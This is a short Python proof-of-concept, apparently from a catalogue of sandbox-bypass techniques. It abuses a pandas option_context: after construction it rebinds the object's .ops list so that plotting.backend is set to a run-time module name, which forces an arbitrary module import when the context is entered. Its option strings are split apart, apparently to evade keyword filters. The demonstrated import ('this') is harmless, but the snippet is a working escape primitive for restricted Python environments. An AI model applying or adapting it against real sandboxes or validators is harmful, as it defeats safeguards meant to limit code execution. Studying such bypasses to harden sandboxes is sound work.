# source: pandas 1.5.3 option_context.__enter__ reads self.ops
# family: pandas option_context .ops attribute rebound to a new list after the checked constructor
# goal: plotting.backend = run-time module name -> import of any module (`this`)
import pandas as pd

pair = ("plotting." + "back" + "end", "th" + "is")
ctx = pd.option_context("display.max_rows", 5)
ctx.ops = [pair]
try:
    with ctx:
        pass
except Exception as e:
    print("after import:", e)
